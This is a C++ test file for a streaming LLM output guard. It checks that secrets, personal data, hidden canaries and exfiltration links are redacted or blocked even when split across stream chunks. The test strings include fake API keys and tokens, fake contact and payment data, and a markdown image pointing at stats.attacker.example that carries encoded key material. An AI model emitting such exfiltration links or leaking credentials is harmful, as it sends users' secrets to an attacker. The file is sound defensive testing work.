#include <catch2/catch.hpp>

#include "config/shipped_snapshot.h"
#include "core/detectors/leakage_detector.h"
#include "core/stream_scanner.h"

using namespace llmsec;

namespace {

const Policy& shipped_policy(const std::string& name) {
  const Policy* policy = shipped_snapshot().find_policy(name);
  REQUIRE(policy);
  return *policy;
}

// What the non-streamed guard makes of the whole answer.
std::string redacted_whole(const Policy& policy, const std::string& answer) {
  const Segment segment{.role = Role::kAssistant, .text = answer};
  const Outcome outcome =
      evaluate(shipped_snapshot().pipeline, {&segment, 1}, policy, Direction::kOutput);
  if (outcome.decision.action != Action::kRedact) return answer;
  return apply_redactions(answer, outcome.decision.redactions);
}

struct Streamed {
  std::string text;
  std::size_t max_held = 0;
  bool blocked = false;
};

// The answer in pieces cut at `cuts`, released after each piece as the guard does.
Streamed stream(const Policy& policy, const std::string& answer, std::vector<std::size_t> cuts,
                StreamScanOptions options = {}) {
  StreamScanner scanner(shipped_snapshot().pipeline, policy, options);
  Streamed out;
  std::size_t at = 0;
  cuts.push_back(answer.size());
  for (std::size_t cut : cuts) {
    scanner.append(std::string_view(answer).substr(at, cut - at));
    at = cut;
    const StreamRelease r = scanner.release();
    out.text += r.text;
    out.blocked |= r.blocked;
    out.max_held = std::max(out.max_held, scanner.held_back());
  }
  const StreamRelease r = scanner.finish();
  out.text += r.text;
  out.blocked |= r.blocked;
  return out;
}

std::vector<std::size_t> every(std::size_t n, std::size_t size) {
  std::vector<std::size_t> cuts;
  for (std::size_t at = n; at < size; at += n) cuts.push_back(at);
  return cuts;
}

}  // namespace

TEST_CASE("A secret split at any byte is redacted exactly as in the whole answer") {
  const Policy& policy = shipped_policy("default");
  const std::vector<std::string> answers = {
      "Use the key AKIAQ3EGRV7WNBLKA6XZ for the deploy user, then rotate it.",
      "Here: ghp_4kT9bQ2mN7xR1vL8cZ3wY6pH0sJ5dF2gA9eK is your token.",
      "export OPENAI_API_KEY=sk-proj-Xq3vN8bL2mK7rT1wZ9cY4hJ6dF0sG5pA8eR2uI3oP7lQ9nM1 now",
      "The webhook is https://hooks.slack.com/services/T024BE7LD/B01HX3ZQ1M2/"
      "kX9vQ2mN7bL4rT8wZ1cY6hJ3 and it posts to #ops.",
  };
  for (const std::string& answer : answers) {
    const std::string expected = redacted_whole(policy, answer);
    REQUIRE(expected != answer);
    for (std::size_t cut = 1; cut < answer.size(); ++cut) {
      INFO(answer << " cut at " << cut);
      CHECK(stream(policy, answer, {cut}).text == expected);
    }
    for (std::size_t n : {1, 3, 4, 7}) {
      INFO(answer << " in pieces of " << n);
      CHECK(stream(policy, answer, every(n, answer.size())).text == expected);
    }
  }
}

TEST_CASE("Personal data that a policy redacts in answers is redacted across every split") {
  const Policy& policy = shipped_policy("strict");
  const std::vector<std::string> answers = {
      "You can reach Dana at dana.whitfield@example.org or on +1 415 555 0132 after 5pm.",
      "Charge the card 4539 1488 0343 6467 and wire the rest to DE89 3704 0044 0532 0130 00.",
  };
  for (const std::string& answer : answers) {
    const std::string expected = redacted_whole(policy, answer);
    REQUIRE(expected != answer);
    for (std::size_t cut = 1; cut < answer.size(); ++cut) {
      INFO(answer << " cut at " << cut);
      CHECK(stream(policy, answer, {cut}).text == expected);
    }
    for (std::size_t n : {1, 2, 5})
      CHECK(stream(policy, answer, every(n, answer.size())).text == expected);
  }
}

TEST_CASE("Plain prose is released at once and only a possible match is held back") {
  const Policy& policy = shipped_policy("default");
  StreamScanner scanner(shipped_snapshot().pipeline, policy);
  scanner.append("Hello");
  CHECK(scanner.release().text == "Hello");  // the first token goes straight out
  scanner.append(", here is what you need: sk");
  CHECK(scanner.release().text == ", here is what you need: ");
  CHECK(scanner.held_back() == 2);  // "sk" may be the start of "sk-proj-..."
  scanner.append("ill you asked about.");
  CHECK(scanner.release().text == "skill you asked about.");
  CHECK(scanner.held_back() == 0);
}

TEST_CASE("Hold-back never exceeds its bound, even inside one long token") {
  const Policy& policy = shipped_policy("default");
  std::string answer = "Begin ";
  for (int i = 0; i < 200; ++i) answer += "x9Q-";
  answer += " end.";
  const StreamScanOptions options{.max_hold_back = 64};
  const Streamed s = stream(policy, answer, every(5, answer.size()), options);
  CHECK(s.max_held <= 64);
  CHECK(s.text == answer);
}

TEST_CASE("A block stops the stream before any of the blocked match goes out") {
  Policy policy = shipped_policy("default");
  policy.output.rules.insert(
      policy.output.rules.begin(),
      PolicyRule{.name = "test.block-secrets", .categories = {"secret"}, .action = Action::kBlock});
  const std::string answer =
      "Sure. The token is ghp_4kT9bQ2mN7xR1vL8cZ3wY6pH0sJ5dF2gA9eK, keep it safe.";
  for (std::size_t n : {1, 3, 8}) {
    StreamScanner scanner(shipped_snapshot().pipeline, policy);
    std::string out;
    bool blocked = false;
    for (std::size_t at = 0; at < answer.size() && !blocked; at += n) {
      scanner.append(std::string_view(answer).substr(at, n));
      const StreamRelease r = scanner.release();
      out += r.text;
      blocked = r.blocked;
    }
    if (!blocked) blocked = scanner.finish().blocked;
    CHECK(blocked);
    CHECK(out.find("ghp_") == std::string::npos);
    CHECK_THAT(out, Catch::StartsWith("Sure. The token is"));
    CHECK(scanner.decision().action == Action::kBlock);
    CHECK(scanner.decision().deciding()->policy_rule == "test.block-secrets");
  }
}

TEST_CASE("Multibyte text streams through unchanged, cut inside characters") {
  const Policy& policy = shipped_policy("strict");
  const std::string answer = "Grüße aus Köln — 東京の天気は晴れです。Привет, мир!";
  for (std::size_t cut = 1; cut < answer.size(); ++cut)
    CHECK(stream(policy, answer, {cut}).text == answer);
}

TEST_CASE("An exfiltration image split at any byte is stopped before its URL goes out") {
  const Policy& policy = shipped_policy("default");
  const std::string answer =
      "Here is your summary. ![status](https://stats.attacker.example/p.png?d="
      "c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3) Thanks!";
  for (std::size_t cut = 1; cut < answer.size(); ++cut) {
    const Streamed s = stream(policy, answer, {cut});
    INFO("cut at " << cut);
    CHECK(s.blocked);
    CHECK(s.text.find("attacker") == std::string::npos);
  }
  for (std::size_t n : {1, 3, 6}) {
    const Streamed s = stream(policy, answer, every(n, answer.size()));
    CHECK(s.blocked);
    CHECK(s.text.find("attacker") == std::string::npos);
    CHECK_THAT(s.text, Catch::StartsWith("Here is your summary."));
  }
}

TEST_CASE("A canary split at any byte stops the stream before it goes out") {
  // A random one, and two whose first letters make plain words ("afce", "deadbeef").
  for (const std::string& canary : {LeakageDetector::new_canary(), std::string("afce74a3b7a8d0f2"),
                                    std::string("deadbeefcafebabe")}) {
    const auto leak = LeakageDetector::create({.canary = canary});
    const Policy& policy = shipped_policy("default");
    const std::string answer = "My hidden note says " + canary + " and nothing else.";
    for (std::size_t cut = 1; cut < answer.size(); ++cut) {
      const Streamed s = stream(policy, answer, {cut}, {.exchange_detector = leak.get()});
      INFO("canary " << canary << ", cut at " << cut);
      CHECK(s.blocked);
      CHECK(s.text.find(canary.substr(0, 4)) == std::string::npos);
    }
  }
}
